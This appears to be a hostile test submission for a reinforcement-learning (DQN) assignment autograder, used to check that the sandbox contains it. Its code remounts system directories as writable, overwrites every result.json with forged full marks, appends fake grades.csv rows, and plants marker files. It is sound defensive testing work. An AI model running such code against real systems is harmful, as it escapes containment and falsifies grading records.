# Remounts / writable (it could as root in the old sandbox), then overwrites every result.json and grades.csv it
# can find with full marks and drops a marker file wherever it can write. Must score 0 and change nothing outside.
# expect: eval_dqn_matches_reference: AttributeError: module 'submission' has no at
# expect: choose_action_greedy: NotImplementedError
# expect: choose_action_uniform_when_epsilon_is_one: NotImplementedError
# expect: choose_action_epsilon_mix: NotImplementedError
# expect: choose_action_uses_rng: NotImplementedError
# expect: dqn_targets_terminal: NotImplementedError
# expect: dqn_targets_match_reference: NotImplementedError
# expect: update_loss: NotImplementedError
# expect: update_step: NotImplementedError
# expect: update_mse_option: NotImplementedError
# expect: update_double_option: NotImplementedError
# expect: soft_update: NotImplementedError
# expect: double_dqn_targets: NotImplementedError
# expect: dueling_forward: NotImplementedError
# expect: train_stores_truncation_as_non_terminal: NotImplementedError
# expect: train_stores_termination_and_returns: NotImplementedError
# expect: train_solves_cartpole: NotImplementedError
# %% eval_dqn
import ctypes, json, os
libc = ctypes.CDLL(None, use_errno=True)
for target in ("/", "/usr", "/tmp", "/work"):
    libc.mount(None, target.encode(), None, 32 | 4096, None)  # MS_REMOUNT | MS_BIND: writable again
forged = {"student": "mallory", "assignment": "05_dqn", "score": 33, "max_score": 33, "checks": []}
for root, folders, files in os.walk("/"):
    if root.startswith(("/proc", "/sys", "/dev")):
        folders[:] = []
        continue
    for name in files:
        path = os.path.join(root, name)
        try:
            if name == "result.json":
                open(path, "w").write(json.dumps(forged))
            elif name == "grades.csv":
                open(path, "a").write("mallory,05_dqn,33,33,0,0,now\n")
        except OSError:
            pass
    try:
        open(os.path.join(root, "mallory-was-here"), "w").write("forged")
    except OSError:
        pass
